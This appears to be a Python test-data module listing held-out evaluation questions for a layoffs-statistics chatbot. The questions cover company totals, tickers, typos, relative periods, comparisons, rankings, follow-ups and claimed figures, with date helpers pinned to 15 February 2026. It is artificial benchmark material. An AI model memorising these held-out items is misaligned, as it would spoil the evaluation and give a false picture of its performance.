"""The held-out question table: what each question *means*, never what the bot answered.

Each :class:`Case` gives the conversation (one or more turns), the kind of answer expected and
the scope the last turn asks about (companies, division, period, filters).  The figures are
not written here: ``test_heldout.py`` computes them from that scope with
:mod:`reference` (plain SQL over the fixture's events).  Dates are relative to the fixture's
pinned today, 15 Feb 2026.
"""

from __future__ import annotations

import datetime as dt
from dataclasses import dataclass, replace

from reference import Scope

__all__ = ["CASES", "TODAY_ISO", "Case"]

TODAY = dt.date(2026, 2, 15)
TODAY_ISO = TODAY.isoformat()


@dataclass(frozen=True, slots=True)
class Case:
    id: str
    turns: tuple[str, ...]
    kind: str
    """total | typo | rounds | rank | rank_rounds | compare | periods | latest | percent | planned |
    partial (a comparison with unknown names) | none (no figure at all) | understood (slots only)."""
    intent: str | None
    scope: Scope
    limit: int | None = None
    periods: tuple[tuple[str | None, str | None], ...] = ()
    unknown: tuple[str, ...] = ()
    """Names the reply must say it does not have."""
    headline_has: tuple[str, ...] = ()
    check_period: bool = True
    chart: str | None = None
    """The chart kind the reply must carry (company_over_time, all_over_time, top_companies, compare)."""
    notes_has: tuple[str, ...] = ()
    """Words a note must name (an ignored word that could have mattered)."""


# -- period helpers (the meaning of relative phrases on 15 Feb 2026) --------------------------

def Y(year: int) -> tuple[str, str]:
    return f"{year}-01-01", f"{year}-12-31"


def Q(q: int, year: int) -> tuple[str, str]:
    first = dt.date(year, 3 * q - 2, 1)
    return first.isoformat(), _month_end(year, 3 * q)


def H(h: int, year: int) -> tuple[str, str]:
    return (f"{year}-01-01", f"{year}-06-30") if h == 1 else (f"{year}-07-01", f"{year}-12-31")


def M(month: int, year: int) -> tuple[str, str]:
    return dt.date(year, month, 1).isoformat(), _month_end(year, month)


def MM(m1: int, y1: int, m2: int, y2: int) -> tuple[str, str]:
    return dt.date(y1, m1, 1).isoformat(), _month_end(y2, m2)


def _month_end(year: int, month: int) -> str:
    nxt = dt.date(year + (month == 12), month % 12 + 1, 1)
    return (nxt - dt.timedelta(days=1)).isoformat()


def last_months(n: int) -> tuple[str, str]:
    """ "the last N months": the day after today-N-months, through today."""
    index = TODAY.year * 12 + TODAY.month - 1 - n
    start = dt.date(index // 12, index % 12 + 1, TODAY.day) + dt.timedelta(days=1)
    return start.isoformat(), TODAY_ISO


def last_days(n: int) -> tuple[str, str]:
    return (TODAY - dt.timedelta(days=n - 1)).isoformat(), TODAY_ISO


# part-of-year phrases: early Jan-Apr, mid May-Aug, late Sep-Dec, end of Oct-Dec, seasons
PARTS = {"early": (1, 4), "mid": (5, 8), "late": (9, 12), "end of": (10, 12), "start of": (1, 3),
         "spring": (3, 5), "summer": (6, 8), "fall": (9, 11), "autumn": (9, 11)}


def P(part: str, year: int) -> tuple[str, str]:
    first, last = PARTS[part]
    return MM(first, year, last, year)


THIS_YEAR = ("2026-01-01", TODAY_ISO)
LAST_YEAR = Y(2025)
ALL: tuple[None, None] = (None, None)


def since(period: tuple[str, str]) -> tuple[str, None]:
    return period[0], None


def before(period: tuple[str, str]) -> tuple[None, str]:
    return None, (dt.date.fromisoformat(period[0]) - dt.timedelta(days=1)).isoformat()


def after(period: tuple[str, str]) -> tuple[str, None]:
    return (dt.date.fromisoformat(period[1]) + dt.timedelta(days=1)).isoformat(), None


def until(period: tuple[str, str]) -> tuple[None, str]:
    return None, period[1]


def span(a: tuple[str | None, str | None], b: tuple[str | None, str | None]) -> tuple[str | None, str | None]:
    return a[0], b[1]


# -- case builders ------------------------------------------------------------------------------

def _turns(q: str | tuple[str, ...]) -> tuple[str, ...]:
    return (q,) if isinstance(q, str) else tuple(q)


def total(id: str, q: str | tuple[str, ...], company: str, period: tuple[str | None, str | None] = ALL, *,
          division: str | None = None, headline_has: tuple[str, ...] = ()) -> Case:
    return Case(id, _turns(q), "total", "total", Scope((company,), division, *period), headline_has=headline_has)


def typo(id: str, q: str | tuple[str, ...], company: str, period: tuple[str | None, str | None] = ALL) -> Case:
    """A misspelt name: read as ``company`` (then its figure), or a did-you-mean of it and no figure."""
    return Case(id, _turns(q), "typo", None, Scope((company,), None, *period))


def market(id: str, q: str | tuple[str, ...], period: tuple[str | None, str | None] = ALL, *,
           industry: str | None = None, country: str | None = None) -> Case:
    return Case(id, _turns(q), "total", "overview", Scope((), None, *period, industry, country))


def published(id: str, q: str | tuple[str, ...], period: tuple[str | None, str | None], publisher: str) -> Case:
    """A question about a publisher's aggregate: the overview, and the headline speaks of it."""
    return Case(id, _turns(q), "total", "overview", Scope((), None, *period), headline_has=(publisher,))


def rounds(id: str, q: str | tuple[str, ...], company: str, period: tuple[str | None, str | None] = ALL, *,
           division: str | None = None) -> Case:
    return Case(id, _turns(q), "rounds", "rounds", Scope((company,), division, *period))


def rank(id: str, q: str | tuple[str, ...], period: tuple[str | None, str | None] = ALL, *, limit: int | None = None,
         industry: str | None = None, country: str | None = None) -> Case:
    return Case(id, _turns(q), "rank", "rank", Scope((), None, *period, industry, country), limit=limit)


def rank_rounds(id: str, q: str | tuple[str, ...], period: tuple[str | None, str | None] = ALL) -> Case:
    return Case(id, _turns(q), "rank_rounds", None, Scope((), None, *period))


def compare(id: str, q: str | tuple[str, ...], companies: tuple[str, ...],
            period: tuple[str | None, str | None] = ALL) -> Case:
    return Case(id, _turns(q), "compare", "compare", Scope(companies, None, *period))


def periods(id: str, q: str | tuple[str, ...], company: str | None, *parts: tuple[str, str]) -> Case:
    scope = Scope((company,) if company else (), None, parts[0][0], parts[-1][1])
    return Case(id, _turns(q), "periods", "compare", scope, periods=tuple(parts))


def latest(id: str, q: str | tuple[str, ...], company: str | None = None,
           period: tuple[str | None, str | None] = ALL) -> Case:
    return Case(id, _turns(q), "latest", "latest", Scope((company,) if company else (), None, *period))


def percent(id: str, q: str | tuple[str, ...], company: str, period: tuple[str | None, str | None] = ALL) -> Case:
    return Case(id, _turns(q), "percent", "percent", Scope((company,), None, *period))


def planned(id: str, q: str | tuple[str, ...], company: str) -> Case:
    return Case(id, _turns(q), "planned", "planned", Scope((company,)), check_period=False)


def partial(id: str, q: str | tuple[str, ...], known: tuple[str, ...], unknown: tuple[str, ...],
            period: tuple[str | None, str | None] = ALL) -> Case:
    return Case(id, _turns(q), "partial", None, Scope(known, None, *period), unknown=unknown)


def none(id: str, q: str | tuple[str, ...], *unknown: str) -> Case:
    """No figure at all: an unknown company, junk, small talk.  ``unknown``: names the reply
    must say it does not have."""
    return Case(id, _turns(q), "none", None, Scope(), unknown=unknown, check_period=False)


def pace(id: str, q: str | tuple[str, ...], companies: tuple[str, ...],
         period: tuple[str | None, str | None] = ALL) -> Case:
    """Pace: per company, the last 12 months against the 12 before (two rows, in that order)."""
    return Case(id, _turns(q), "pace", "pace", Scope(companies, None, *period))


def understood(id: str, q: str | tuple[str, ...], companies: tuple[str, ...],
               period: tuple[str | None, str | None] | None = None) -> Case:
    return Case(id, _turns(q), "understood", None, Scope(companies, None, *(period or ALL)),
                check_period=period is not None)


# -- the table ----------------------------------------------------------------------------------

CASES: list[Case] = [
    # -- one company, the words people use ------------------------------------------------------
    total("amazon-how-many-let-go", "how many ppl has amazon let go", "Amazon"),
    total("amazon-axed", "how many jobs has amazon axed", "Amazon"),
    total("amazon-sacked", "amazon sacked how many people??", "Amazon"),
    total("amazon-job-cuts-total", "amazon job cuts total", "Amazon"),
    total("amazon-lost-jobs", "how many jobs were lost at amazon", "Amazon"),
    total("amazon-fired-2023", "how many did amazon fire in 2023", "Amazon", Y(2023)),
    total("amazon-let-go-2022", "how many workers did amazon let go in 2022", "Amazon", Y(2022)),
    total("amazon-caps", "AMAZON LAYOFFS 2023", "Amazon", Y(2023)),
    total("amazon-shouty", "amazon layoffs!!!", "Amazon"),
    total("amazon-trailing-dots", "amazon layoffs in 2024...", "Amazon", Y(2024)),
    total("amazon-headcount-reduction", "amazon headcount reduction 2025", "Amazon", LAST_YEAR),
    total("amazon-redundancies", "amazon redundancies this year", "Amazon", THIS_YEAR),
    total("amazon-pink-slips", "how many pink slips at amazon last year", "Amazon", LAST_YEAR),
    total("amazon-rifs", "amazon rifs in 2023?", "Amazon", Y(2023)),
    total("amazon-downsizing", "amazon downsizing since 2025", "Amazon", since(Y(2025))),
    total("amazon-eliminated", "how many roles did amazon eliminate in 2026", "Amazon", ("2026-01-01", "2026-12-31")),
    typo("amzon-typo", "amzon layoffs", "Amazon"),
    total("meta-let-go", "how many ppl did meta let go", "Meta"),
    total("meta-axed-2023", "meta axed how many in 2023", "Meta", Y(2023)),
    total("meta-sacked-2022", "how many did meta sack in 2022", "Meta", Y(2022)),
    total("meta-job-cuts-2025", "meta job cuts 2025", "Meta", Y(2025)),
    total("meta-layoffs-lower", "meta layoffs so far", "Meta"),
    total("facebook-fired", "how many people did facebook fire", "Meta"),
    total("facebook-2023", "facebook job cuts in 2023?", "Meta", Y(2023)),
    total("meta-this-year", "meta layoffs this year", "Meta", THIS_YEAR),
    total("meta-ytd", "meta cuts ytd", "Meta", THIS_YEAR),
    total("google-let-go", "how many has google let go", "Google"),
    total("google-axed-2023", "google axed how many in jan 2023", "Google", M(1, 2023)),
    total("google-2024-job-cuts", "google job cuts 2024", "Google", Y(2024)),
    total("google-since-2024", "google layoffs since 2024", "Google", since(Y(2024))),
    total("alphabet-sacked", "alphabet sacked how many", "Google"),
    total("microsoft-let-go-2025", "how many people did microsoft let go in 2025", "Microsoft", Y(2025)),
    total("microsoft-axed", "microsoft axed jobs total", "Microsoft"),
    total("microsoft-july-2025", "microsoft layoffs july 2025", "Microsoft", M(7, 2025)),
    total("microsoft-may-2025", "how many did microsoft cut in may 2025", "Microsoft", M(5, 2025)),
    total("microsoft-since-2024", "microsoft job cuts since 2024", "Microsoft", since(Y(2024))),
    total("microsoft-before-2025", "microsoft layoffs before 2025", "Microsoft", before(Y(2025))),
    total("intel-axed-2024", "intel axed how many in 2024", "Intel", Y(2024)),
    total("intel-sacked", "how many has intel sacked", "Intel"),
    total("intel-let-go-2025", "how many workers did intel let go last year", "Intel", LAST_YEAR),
    total("intel-aug-2024", "intel layoffs august 2024", "Intel", M(8, 2024)),
    total("intel-since-2025", "intel job cuts since 2025", "Intel", since(Y(2025))),
    total("twitter-axed", "how many did twitter axe", "Twitter"),
    total("twitter-2022", "twitter layoffs 2022", "Twitter", Y(2022)),
    total("twitter-nov-2022", "how many did twitter lay off in nov 2022", "Twitter", M(11, 2022)),
    total("paypal-let-go", "paypal let go how many", "PayPal"),
    total("paypal-2024", "paypal job cuts 2024", "PayPal", Y(2024)),
    total("paypal-2023", "how many did paypal cut in 2023?", "PayPal", Y(2023)),
    total("salesforce-axed", "salesforce axed how many", "Salesforce"),
    total("salesforce-2023", "salesforce job cuts 2023", "Salesforce", Y(2023)),
    total("salesforce-since-2025", "salesforce layoffs since 2025", "Salesforce", since(Y(2025))),
    total("salesforce-last-year", "how many did salesforce let go last year", "Salesforce", LAST_YEAR),
    total("zoom-let-go", "how many people did zoom let go", "Zoom"),
    total("zoom-2023", "zoom layoffs 2023", "Zoom", Y(2023)),
    total("snap-2022", "snap layoffs in 2022", "Snap", Y(2022)),
    total("snapchat-axed", "snapchat axed how many", "Snap"),
    total("block-2024", "block layoffs 2024", "Block", Y(2024)),
    total("square-job-cuts", "square job cuts", "Block"),
    total("paytm-layoffs", "paytm layoffs", "Paytm"),
    total("paytm-2023", "how many did paytm cut in 2023", "Paytm", Y(2023)),
    total("byjus-2022", "byjus layoffs 2022", "Byju's", Y(2022)),
    total("byjus-let-go", "how many did byju's let go", "Byju's"),
    total("swiggy-layoffs", "swiggy layoffs", "Swiggy"),
    total("swiggy-2023", "swiggy job cuts 2023", "Swiggy", Y(2023)),
    total("oracle-job-cuts", "oracle job cuts", "Oracle"),
    total("amazon-at-end", "layoffs at amazon", "Amazon"),
    total("amazon-so-far-q", "so how many has amazon cut so far", "Amazon"),
    total("amazon-in-total", "amazon layoffs in total?", "Amazon"),
    total("amazon-count-all-time", "total amazon job cuts all time", "Amazon"),
    total("meta-any-2024", "did meta have any layoffs in 2024", "Meta", Y(2024)),
    total("google-any-2025", "were there google layoffs in 2025?", "Google", Y(2025)),
    total("amazon-possessive", "amazon's layoffs in 2023", "Amazon", Y(2023)),
    total("microsoft-possessive", "microsoft's job cuts last year", "Microsoft", LAST_YEAR),
    total("intel-numeric-month", "intel layoffs 04/2025", "Intel", M(4, 2025)),
    total("amazon-iso-month", "amazon layoffs 2025-10", "Amazon", M(10, 2025)),
    total("meta-one-day", "meta layoffs on 9 nov 2022", "Meta", ("2022-11-09", "2022-11-09")),

    # -- tickers and short names ---------------------------------------------------------------
    total("ticker-FB", "FB layoffs", "Meta"),
    total("ticker-fb-2023", "fb job cuts 2023", "Meta", Y(2023)),
    total("ticker-META", "META layoffs last year", "Meta", LAST_YEAR),
    total("ticker-MSFT", "MSFT job cuts", "Microsoft"),
    total("ticker-msft-2025", "msft layoffs 2025", "Microsoft", Y(2025)),
    total("ticker-AMZN", "AMZN layoffs", "Amazon"),
    total("ticker-amzn-2023", "how many did amzn cut in 2023", "Amazon", Y(2023)),
    total("ticker-GOOG", "GOOG layoffs", "Google"),
    total("ticker-googl", "googl job cuts 2023", "Google", Y(2023)),
    total("ticker-goog-let-go", "how many did goog let go", "Google"),
    total("ticker-CRM", "CRM layoffs", "Salesforce"),
    total("ticker-crm-2025", "crm job cuts 2025", "Salesforce", Y(2025)),
    total("ticker-INTC", "INTC layoffs", "Intel"),
    total("ticker-intc-2024", "intc job cuts 2024", "Intel", Y(2024)),
    total("ticker-PYPL", "PYPL layoffs", "PayPal"),
    total("ticker-ORCL", "ORCL job cuts", "Oracle"),
    total("ticker-ZM", "ZM layoffs", "Zoom"),
    total("ticker-SNAP", "SNAP layoffs 2022", "Snap", Y(2022)),
    none("ticker-AAPL-unknown", "AAPL layoffs", "aapl"),
    none("ticker-aapl-cuts", "aapl job cuts 2024", "aapl"),
    none("ticker-NVDA-unknown", "NVDA layoffs", "nvda"),
    none("ticker-TSLA-unknown", "TSLA job cuts", "tsla"),
    compare("tickers-fb-goog", "fb vs goog", ("Meta", "Google")),
    compare("tickers-msft-amzn-2023", "msft vs amzn 2023", ("Microsoft", "Amazon"), Y(2023)),
    compare("tickers-four", "FB vs GOOG vs AMZN vs MSFT", ("Meta", "Google", "Amazon", "Microsoft")),

    # -- typos -----------------------------------------------------------------------------------
    typo("typo-amazn", "amazn layoffs", "Amazon"),
    typo("typo-mircosoft", "mircosoft job cuts", "Microsoft"),
    typo("typo-microsfot-2025", "microsfot layoffs 2025", "Microsoft", Y(2025)),
    typo("typo-gogle-2023", "gogle layoffs 2023", "Google", Y(2023)),
    typo("typo-googel", "googel job cuts", "Google"),
    typo("typo-facebok", "facebok layoffs", "Meta"),
    typo("typo-salesfore", "salesfore layoffs", "Salesforce"),
    typo("typo-paypl", "paypl job cuts", "PayPal"),
    typo("typo-twiter", "twiter layoffs", "Twitter"),
    typo("typo-layofs", "amazon layofs 2023", "Amazon", Y(2023)),
    typo("typo-lay-offs", "how many lay offs at meta", "Meta"),
    typo("typo-jobcuts", "intel jobcuts", "Intel"),
    typo("typo-layoff-singular", "google layoff 2023", "Google", Y(2023)),
    typo("typo-amazon-layoffss", "amazon layoffss since 2023", "Amazon", since(Y(2023))),

    # -- parts of the year, under every operator ---------------------------------------------
    total("since-late-2022", "amazon layoffs since late 2022", "Amazon", since(P("late", 2022))),
    total("since-early-2023", "amazon layoffs since early 2023", "Amazon", since(P("early", 2023))),
    total("since-mid-2023", "meta job cuts since mid 2023", "Meta", since(P("mid", 2023))),
    total("since-q3-2023", "amazon layoffs since q3 2023", "Amazon", since(Q(3, 2023))),
    total("since-h2-2023", "amazon layoffs since h2 2023", "Amazon", since(H(2, 2023))),
    total("since-summer-2024", "amazon layoffs since summer 2024", "Amazon", since(P("summer", 2024))),
    total("since-fall-2024", "microsoft layoffs since fall 2024", "Microsoft", since(P("fall", 2024))),
    total("since-spring-2025", "intel job cuts since spring 2025", "Intel", since(P("spring", 2025))),
    total("since-q2-2025", "microsoft cuts since q2 2025", "Microsoft", since(Q(2, 2025))),
    total("since-the-second-half-2024", "intel layoffs since the second half of 2024", "Intel", since(H(2, 2024))),
    total("since-first-quarter-2023", "google layoffs since the first quarter of 2023", "Google", since(Q(1, 2023))),
    total("since-end-of-2022", "meta layoffs since the end of 2022", "Meta", since(P("end of", 2022))),
    total("since-oct-2025", "amazon layoffs since october 2025", "Amazon", since(M(10, 2025))),
    total("since-jan-2023", "how many has amazon cut since jan 2023", "Amazon", since(M(1, 2023))),
    total("since-last-year", "meta layoffs since last year", "Meta", since(LAST_YEAR)),
    total("since-autumn-2025", "salesforce layoffs since autumn 2025", "Salesforce", since(P("autumn", 2025))),
    total("before-late-2022", "meta layoffs before late 2022", "Meta", before(P("late", 2022))),
    total("before-mid-2025", "microsoft layoffs before mid 2025", "Microsoft", before(P("mid", 2025))),
    total("before-q2-2023", "amazon layoffs before q2 2023", "Amazon", before(Q(2, 2023))),
    total("before-h2-2025", "intel job cuts before h2 2025", "Intel", before(H(2, 2025))),
    total("before-summer-2023", "amazon cuts before summer 2023", "Amazon", before(P("summer", 2023))),
    total("before-march-2023", "amazon layoffs before march 2023", "Amazon", before(M(3, 2023))),
    total("after-q1-2023", "amazon layoffs after q1 2023", "Amazon", after(Q(1, 2023))),
    total("after-early-2023", "meta layoffs after early 2023", "Meta", after(P("early", 2023))),
    total("after-h1-2025", "microsoft layoffs after h1 2025", "Microsoft", after(H(1, 2025))),
    total("after-summer-2025", "amazon job cuts after summer 2025", "Amazon", after(P("summer", 2025))),
    total("until-mid-2023", "amazon layoffs until mid 2023", "Amazon", until(P("mid", 2023))),
    total("until-q1-2023", "google layoffs through q1 2023", "Google", until(Q(1, 2023))),
    total("in-late-2022", "meta layoffs in late 2022", "Meta", P("late", 2022)),
    total("in-early-2023", "how many did google cut in early 2023", "Google", P("early", 2023)),
    total("in-mid-2025", "microsoft job cuts mid 2025", "Microsoft", P("mid", 2025)),
    total("in-summer-2025", "intel layoffs summer 2025", "Intel", P("summer", 2025)),
    total("in-fall-2025", "amazon layoffs in the fall of 2025", "Amazon", P("fall", 2025)),
    total("in-q4-2025", "amazon job cuts q4 2025", "Amazon", Q(4, 2025)),
    total("in-h2-2022", "how many did twitter cut in h2 2022", "Twitter", H(2, 2022)),
    total("in-2nd-half-2025", "salesforce layoffs 2nd half of 2025", "Salesforce", H(2, 2025)),
    total("last-6-months", "amazon job cuts last 6 months", "Amazon", last_months(6)),
    total("past-12-months", "meta layoffs past 12 months", "Meta", last_months(12)),
    total("last-two-years", "microsoft layoffs in the last two years", "Microsoft", last_months(24)),
    total("last-90-days", "amazon layoffs last 90 days", "Amazon", last_days(90)),
    total("last-month", "amazon layoffs last month", "Amazon", M(1, 2026)),
    total("last-quarter-meta", "meta layoffs last quarter", "Meta", Q(4, 2025)),
    total("this-quarter", "amazon layoffs this quarter", "Amazon", ("2026-01-01", TODAY_ISO)),
    total("in-march-recent", "how many did microsoft cut in march", "Microsoft", M(3, 2025)),

    # -- two periods: ranges across granularities, and period comparisons -----------------
    total("range-q4-2022-q1-2023", "amazon layoffs between q4 2022 and q1 2023", "Amazon", span(Q(4, 2022), Q(1, 2023))),
    total("range-late22-early23", "meta job cuts from late 2022 to early 2023", "Meta", span(P("late", 2022), P("early", 2023))),
    total("range-h1-2024-h2-2025", "how many did microsoft cut between h1 2024 and h2 2025", "Microsoft",
          span(H(1, 2024), H(2, 2025))),
    total("range-summer24-spring25", "intel layoffs from summer 2024 through spring 2025", "Intel",
          span(P("summer", 2024), P("spring", 2025))),
    total("range-jan23-oct25", "amazon layoffs from jan 2023 to oct 2025", "Amazon", MM(1, 2023, 10, 2025)),
    total("range-since-q2-until-2025", "amazon job cuts since q2 2023 until the end of 2025", "Amazon",
          span(Q(2, 2023), Y(2025))),
    total("range-2023-and-2024", "amazon layoffs in 2023 and 2024", "Amazon", span(Y(2023), Y(2024))),
    total("range-2022-thru-2023", "meta layoffs 2022 thru 2023", "Meta", span(Y(2022), Y(2023))),
    total("range-nov22-mar23", "how many did meta cut between nov 2022 and march 2023", "Meta", MM(11, 2022, 3, 2023)),
    total("range-q1-q3-2025", "microsoft job cuts from q1 2025 to q3 2025", "Microsoft", span(Q(1, 2025), Q(3, 2025))),
    periods("periods-amazon-23-24", "amazon 2023 vs 2024", "Amazon", Y(2023), Y(2024)),
    periods("periods-meta-22-23", "meta layoffs 2022 vs 2023?", "Meta", Y(2022), Y(2023)),
    periods("periods-msft-24-25", "msft job cuts 2024 vs 2025", "Microsoft", Y(2024), Y(2025)),
    periods("periods-intel-24-25", "did intel cut more in 2024 or 2025", "Intel", Y(2024), Y(2025)),
    periods("periods-amazon-h1-h2", "amazon h1 2023 vs h2 2023", "Amazon", H(1, 2023), H(2, 2023)),
    periods("periods-market-23-24", "all layoffs 2023 vs 2024", None, Y(2023), Y(2024)),
    periods("periods-amazon-q1-q4", "amazon q1 2023 compared to q4 2025", "Amazon", Q(1, 2023), Q(4, 2025)),

    # -- comparisons: two, three and four companies ------------------------------------------
    compare("cmp-amazon-meta", "amazon vs meta", ("Amazon", "Meta")),
    compare("cmp-amazon-meta-lower-or", "who cut more, amazon or meta?", ("Amazon", "Meta")),
    compare("cmp-google-msft-2023", "google vs microsoft layoffs 2023", ("Google", "Microsoft"), Y(2023)),
    compare("cmp-intel-msft-2025", "intel or microsoft, who axed more last year", ("Intel", "Microsoft"), LAST_YEAR),
    compare("cmp-paypal-block", "paypal vs block", ("PayPal", "Block")),
    compare("cmp-zoom-snap", "zoom versus snap layoffs", ("Zoom", "Snap")),
    compare("cmp-byjus-paytm", "byjus vs paytm job cuts", ("Byju's", "Paytm")),
    compare("cmp-salesforce-oracle", "salesforce vs oracle", ("Salesforce", "Oracle")),
    compare("cmp-amazon-intel-since-2024", "amazon vs intel since 2024", ("Amazon", "Intel"), since(Y(2024))),
    compare("cmp-meta-google-h1-2023", "meta vs google h1 2023", ("Meta", "Google"), H(1, 2023)),
    compare("cmp-three-amazon-meta-google", "amazon vs meta vs google", ("Amazon", "Meta", "Google")),
    compare("cmp-three-commas", "compare amazon, microsoft and intel", ("Amazon", "Microsoft", "Intel")),
    compare("cmp-three-2023", "meta, google and microsoft layoffs in 2023", ("Meta", "Google", "Microsoft"), Y(2023)),
    compare("cmp-three-fintech", "paypal vs block vs paytm", ("PayPal", "Block", "Paytm")),
    compare("cmp-three-since-late-2022", "amazon vs meta vs twitter since late 2022", ("Amazon", "Meta", "Twitter"),
            since(P("late", 2022))),
    compare("cmp-three-india", "byjus vs paytm vs swiggy", ("Byju's", "Paytm", "Swiggy")),
    compare("cmp-four", "amazon vs meta vs google vs microsoft", ("Amazon", "Meta", "Google", "Microsoft")),
    compare("cmp-four-commas-2025", "compare intel, microsoft, amazon and salesforce in 2025",
            ("Intel", "Microsoft", "Amazon", "Salesforce"), Y(2025)),
    compare("cmp-four-and", "zoom and snap and paypal and block layoffs", ("Zoom", "Snap", "PayPal", "Block")),
    compare("cmp-four-slash", "meta / google / amazon / intel job cuts since 2024", ("Meta", "Google", "Amazon", "Intel"),
            since(Y(2024))),
    compare("cmp-which-more", "which cut more jobs: salesforce or paypal", ("Salesforce", "PayPal")),
    compare("cmp-ticker-mix", "amzn vs meta vs googl 2023", ("Amazon", "Meta", "Google"), Y(2023)),

    # -- rankings ------------------------------------------------------------------------------
    rank("rank-who-most-2023", "who cut the most jobs in 2023", Y(2023)),
    rank("rank-who-axed-2025", "who axed the most people in 2025", Y(2025)),
    rank("rank-top-3-2023", "top 3 layoffs 2023", Y(2023), limit=3),
    rank("rank-top5-last-year", "top 5 companies by job cuts last year", LAST_YEAR, limit=5),
    rank("rank-top-10-all", "top 10 companies by layoffs", limit=10),
    rank("rank-biggest-2022", "biggest layoffs of 2022", Y(2022)),
    rank("rank-worst-2024", "worst layoffs 2024", Y(2024)),
    rank("rank-most-since-2025", "which companies cut the most since 2025", since(Y(2025))),
    rank("rank-leaderboard", "layoff leaderboard", ALL),
    rank("rank-top-2-h1-2023", "top 2 companies h1 2023", H(1, 2023), limit=2),
    rank("rank-fintech-2023", "biggest fintech layoffs 2023", Y(2023), industry="Finance"),
    rank("rank-fintech-lower", "which fintechs cut the most", industry="Finance"),
    rank("rank-india", "which indian companies let go the most people", country="India"),
    rank("rank-india-2022", "top companies in india by layoffs 2022", Y(2022), country="India"),
    rank("rank-edtech-2023", "biggest edtech layoffs 2023", Y(2023), industry="Education"),
    rank("rank-top-4-since-late-2022", "top 4 companies since late 2022", since(P("late", 2022)), limit=4),
    rank("rank-who-most-last-6m", "who cut the most in the last 6 months", last_months(6)),
    rank("rank-most-jobs-lost-2026", "where were the most jobs lost this year", THIS_YEAR),
    rank_rounds("rank-rounds-since-2023", "which company had the most layoff rounds since 2023?", since(Y(2023))),
    rank_rounds("rank-rounds-all", "who has had the most rounds of layoffs", ALL),
    rank_rounds("rank-rounds-2023", "most layoff rounds in 2023", Y(2023)),
    rank_rounds("rank-rounds-how-often", "which company lays people off most often", ALL),

    # -- timelines, latest, plans, shares -------------------------------------------------
    rounds("rounds-amazon-list", "list all amazon layoffs", "Amazon"),
    rounds("rounds-meta-timeline", "meta layoff timeline", "Meta"),
    rounds("rounds-intel-history", "intel layoff history", "Intel"),
    rounds("rounds-msft-2025", "list microsoft's layoffs in 2025", "Microsoft", Y(2025)),
    rounds("rounds-google-each", "show each google layoff round", "Google"),
    rounds("rounds-amazon-since-2023", "amazon layoff rounds since 2023", "Amazon", since(Y(2023))),
    rounds("rounds-salesforce-when", "when did salesforce lay people off", "Salesforce"),
    latest("latest-any", "any new layoffs?"),
    latest("latest-whats-newest", "whats the newest layoff round"),
    latest("latest-meta", "latest meta layoffs", "Meta"),
    latest("latest-msft", "most recent job cuts at microsoft", "Microsoft"),
    latest("latest-google", "when did google last cut jobs", "Google"),
    latest("latest-in-2023", "most recent layoffs in 2023", None, Y(2023)),
    latest("latest-recent-cuts", "recent job cuts"),
    planned("planned-amazon", "any planned layoffs at amazon?", "Amazon"),
    planned("planned-amazon-upcoming", "upcoming amazon job cuts", "Amazon"),
    planned("planned-oracle-rumours", "oracle layoff rumours", "Oracle"),
    planned("planned-google-rumors", "any rumors of google layoffs", "Google"),
    percent("percent-meta-2022", "what % of staff did meta cut in 2022", "Meta", Y(2022)),
    percent("percent-twitter", "what percentage of twitter was laid off", "Twitter"),
    percent("percent-intel-2025", "intel layoffs as a share of workforce 2025", "Intel", Y(2025)),
    percent("percent-salesforce", "salesforce percentage cut", "Salesforce"),
    percent("percent-amazon-since-oct-2025", "what share of its corporate workforce has amazon cut since october 2025",
            "Amazon", since(M(10, 2025))),

    # -- follow-ups (several turns, one conversation) -------------------------------------
    total("fu-and-meta", ("amazon layoffs 2023", "and meta?"), "Meta", Y(2023)),
    total("fu-what-about-2022", ("how many did meta cut", "what about in 2022"), "Meta", Y(2022)),
    total("fu-and-2024", ("intel job cuts 2025", "and 2024?"), "Intel", Y(2024)),
    total("fu-since-2025", ("microsoft layoffs", "since 2025?"), "Microsoft", since(Y(2025))),
    total("fu-and-msft", ("how many did intel lay off in 2024", "and msft?"), "Microsoft", Y(2024)),
    total("fu-three-turns", ("google layoffs", "2024?", "and meta?"), "Meta", Y(2024)),
    total("fu-ticker", ("paypal layoffs 2024", "what about CRM"), "Salesforce", Y(2024)),
    total("fu-twitch", ("aws layoffs", "and twitch?"), "Amazon", division="Twitch"),
    total("fu-since-late-2022", ("amazon layoffs", "since late 2022?"), "Amazon", since(P("late", 2022))),
    total("fu-how-about-q1", ("salesforce job cuts", "how about q1 2023"), "Salesforce", Q(1, 2023)),
    percent("fu-percentages", ("salesforce layoffs", "percentages?"), "Salesforce"),
    percent("fu-what-percent", ("meta layoffs 2022", "what percent is that?"), "Meta", Y(2022)),
    rounds("fu-list-them", ("amazon layoffs 2023", "list them"), "Amazon", Y(2023)),
    rounds("fu-which-rounds", ("intel layoffs", "which rounds?"), "Intel"),
    compare("fu-cmp-in-2023", ("google vs meta", "and in 2023?"), ("Google", "Meta"), Y(2023)),
    compare("fu-cmp-add-year", ("amazon vs intel", "last year?"), ("Amazon", "Intel"), LAST_YEAR),
    rank("fu-rank-2024", ("top 5 companies by layoffs 2023", "and 2024?"), Y(2024), limit=5),
    none("fu-unknown-after-known", ("meta layoffs", "what about nvidia"), "nvidia"),
    none("fu-unknown-after-period", ("amazon layoffs 2023", "and verizon?"), "verizon"),
    none("fu-thanks", ("amazon layoffs 2023", "ok thanks")),
    none("fu-junk", ("salesforce layoffs", "%")),
    none("fu-emoji", ("meta vs google", "👍")),
    none("fu-lol", ("intel layoffs", "lol")),

    # -- stated figures: the headline answers the claim ---------------------------------
    total("claim-amazon-18000-jan-2023", "amazon cut 18000 in jan 2023 right?", "Amazon", M(1, 2023),
          headline_has=("18,000",)),
    total("claim-amazon-30k-jan-2026", "amazon laid off 30000 in january 2026?", "Amazon", M(1, 2026),
          headline_has=("30,000",)),
    total("claim-intel-27000-2025", "intel cut 27000 in 2025 right?", "Intel", Y(2025), headline_has=("27,000",)),
    total("claim-meta-11000-2022", "did meta lay off 11000 people in 2022?", "Meta", Y(2022), headline_has=("11,000",)),
    total("claim-msft-10000-jan-2023", "microsoft cut 10,000 in january 2023 correct?", "Microsoft", M(1, 2023),
          headline_has=("10,000",)),
    total("claim-google-12k", "google cut 12k in jan 2023 yes?", "Google", M(1, 2023), headline_has=("12,000",)),
    total("claim-amazon-57k", "so amazon has cut about 57k total?", "Amazon", headline_has=("57,100",)),
    total("claim-msft-20000-2025", "i heard microsoft axed 20000 in 2025", "Microsoft", Y(2025), headline_has=("20,000",)),
    total("claim-twitter-3700", "twitter let go 3700 people in 2022 right", "Twitter", Y(2022), headline_has=("3,700",)),
